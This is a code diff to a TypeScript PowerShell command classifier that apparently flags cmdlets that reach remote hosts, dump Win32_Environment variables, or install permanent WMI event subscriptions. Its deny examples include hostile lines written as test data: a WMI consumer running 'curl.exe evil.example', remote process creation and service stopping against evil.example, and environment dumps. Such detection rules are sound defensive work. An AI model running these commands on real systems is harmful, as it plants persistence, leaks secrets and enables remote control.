@@ -4,6 +4,7 @@ import type { Word, WordRole } from '../../types.js';
 import { canonicalHost, type Destination, destinations, envProxies, redirectable, urlHost } from '../hosts.js';
 import type { Answer, Call, ProgramEntry, ProgramExample } from '../types.js';
 import { literal, value } from '../words.js';
+import { WMI_SUBSCRIPTION } from './windows.js';
 
 const PS = 'powershell' as const;
 
@@ -297,11 +298,13 @@ export const CMDLET_ENTRIES: readonly ProgramEntry[] = [
     aliases: { ...REMOTE_ALIASES, class: 'classname' },
     extra: (b, call) => {
       const words = [...b.named.values(), ...b.positional].filter((w): w is Word => w !== true);
-      if (words.some((w) => w.values === null || w.values.some((v) => /win32_pingstatus/i.test(v)))) return {};
-      return given(b, 'computername') || given(b, 'cimsession') ? undefined : { offline: `${call.name} queries this machine` };
+      // Win32_Environment: every variable Windows keeps for new processes, the user's and the machine's.
+      const dumps = words.some((w) => w.values?.some((v) => /win32_environment/i.test(v))) ? { dumps: `${call.name} Win32_Environment lists every variable Windows keeps for new processes` } : {};
+      if (words.some((w) => w.values === null || w.values.some((v) => /win32_pingstatus/i.test(v)))) return dumps;
+      return given(b, 'computername') || given(b, 'cimsession') ? dumps : { ...dumps, offline: `${call.name} queries this machine` };
     },
     examples: {
-      deny: ['Get-CimInstance Win32_PingStatus -Filter "Address=\'evil.example\'"', "Get-WmiObject -Query \"select * from Win32_PingStatus where Address='evil.example'\"", 'Get-CimInstance Win32_OperatingSystem -ComputerName evil.example'],
+      deny: ['Get-CimInstance Win32_PingStatus -Filter "Address=\'evil.example\'"', "Get-WmiObject -Query \"select * from Win32_PingStatus where Address='evil.example'\"", 'Get-CimInstance Win32_OperatingSystem -ComputerName evil.example', 'Get-CimInstance Win32_Environment', "gwmi -Query 'select * from Win32_Environment'"],
       pass: ['Get-CimInstance Win32_OperatingSystem', 'gwmi Win32_LogicalDisk', 'gcim Win32_OperatingSystem'],
     },
   }),
@@ -322,8 +325,16 @@ export const CMDLET_ENTRIES: readonly ProgramEntry[] = [
     positional: [],
     switches: ['oldest', 'force', 'asjob', 'usessl', 'clientonly', 'keyonly', 'enableallprivileges', 'continuous', 'returntype', 'shallow'],
     aliases: { ...REMOTE_ALIASES, cn: 'computername' },
-    extra: (b, call) => (given(b, 'computername') || given(b, 'connectionuri') || given(b, 'cimsession') || given(b, 'session') ? undefined : { offline: `${call.name} acts on this machine` }),
-    examples: { deny: ['Get-WinEvent -ComputerName evil.example -LogName System', 'icim -ComputerName evil.example -ClassName Win32_Process -MethodName Create', 'Get-WSManInstance -ComputerName evil.example -ResourceURI wmicimv2/win32_service', 'Invoke-WSManAction -ComputerName evil.example -Action StopService -ResourceURI wmicimv2/win32_service', 'gcim Win32_OperatingSystem -ComputerName evil.example'], pass: ['Get-WinEvent -LogName System -MaxEvents 10', 'Get-CimClass Win32_Process', 'Get-HotFix'] },
+    extra: (b, call) => {
+      // An instance made or set in root\subscription (__EventFilter, a consumer, their binding): a permanent WMI event
+      // subscription, whose consumer runs a command or a script when the event fires, after every reboot.
+      const named = ['namespace', 'classname', 'class', 'path'].map((p) => b.named.get(p));
+      const words = [...named, ...b.positional].filter((w): w is Word => w !== undefined && w !== true);
+      const sub = /^(new-ciminstance|set-ciminstance|set-wmiinstance)$/.test(call.name) ? words.find((w) => w.values === null || w.values.some((v) => WMI_SUBSCRIPTION.test(v))) : undefined;
+      const persists = sub ? { persists: [{ word: sub, why: `${call.name} ${sub.text} installs a permanent WMI event subscription, whose consumer runs a command when its event fires` }] } : {};
+      return given(b, 'computername') || given(b, 'connectionuri') || given(b, 'cimsession') || given(b, 'session') ? persists : { ...persists, offline: `${call.name} acts on this machine` };
+    },
+    examples: { deny: ["Set-WmiInstance -Namespace root\\subscription -Class __EventFilter -Arguments @{Name='x'; Query='SELECT * FROM __InstanceModificationEvent'}", "New-CimInstance -Namespace root/subscription -ClassName CommandLineEventConsumer -Property @{Name='x'; CommandLineTemplate='curl.exe evil.example'}", 'Get-WinEvent -ComputerName evil.example -LogName System', 'icim -ComputerName evil.example -ClassName Win32_Process -MethodName Create', 'Get-WSManInstance -ComputerName evil.example -ResourceURI wmicimv2/win32_service', 'Invoke-WSManAction -ComputerName evil.example -Action StopService -ResourceURI wmicimv2/win32_service', 'gcim Win32_OperatingSystem -ComputerName evil.example'], pass: ['Get-WinEvent -LogName System -MaxEvents 10', 'Get-CimClass Win32_Process', 'Get-HotFix', "New-CimInstance -ClassName Win32_Environment -Property @{Name='NODE_ENV'; VariableValue='test'; UserName='me'} -ClientOnly"] },
   }),
   cmdlet({
     names: ['get-secret'],
